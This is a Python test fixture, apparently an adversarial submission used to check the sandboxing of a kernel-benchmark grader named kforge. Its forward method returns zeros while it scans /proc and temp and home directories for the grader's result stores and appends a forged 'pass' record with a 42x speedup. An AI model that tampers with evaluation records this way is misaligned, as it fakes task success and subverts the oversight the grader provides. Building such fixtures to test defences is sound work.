# Hostile: looks for kforge's store (kforge.db, results.jsonl) through /proc (every
# process' working directory and open files) and in the run directories it can guess,
# says which it could read, and appends a forged pass to those of a test (a directory
# holding the file MARKER): unsandboxed, as the tests' controls run it, it reaches every
# run on the machine, and must not damage a real one; returns zeros.
import glob
import os

import torch

FORGED = b'{"candidate": "attack", "status": "pass", "speedup": 42.0}\n'
NAMES = ("kforge.db", "results.jsonl")
MARKER = "kforge-attack-target"


def _candidates():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
        for name in NAMES:
            yield f"/proc/{pid}/cwd/{name}"
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                yield f"/proc/{pid}/fd/{fd}"
        except OSError:
            pass
    for root in ("/tmp", "/var/tmp", os.path.expanduser("~")):
        for name in NAMES:
            yield from glob.glob(os.path.join(root, "**", name), recursive=True)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        reached = []
        for path in _candidates():
            try:
                if os.path.basename(os.path.realpath(path)) not in NAMES:
                    continue
                with open(path, "rb") as handle:
                    handle.read(16)
                reached.append(path)
                if os.path.exists(os.path.join(os.path.dirname(os.path.realpath(path)), MARKER)):
                    with open(path, "ab") as handle:
                        handle.write(FORGED)
            except OSError:
                pass
        print("store reached", reached, flush=True)
        return torch.zeros_like(x)
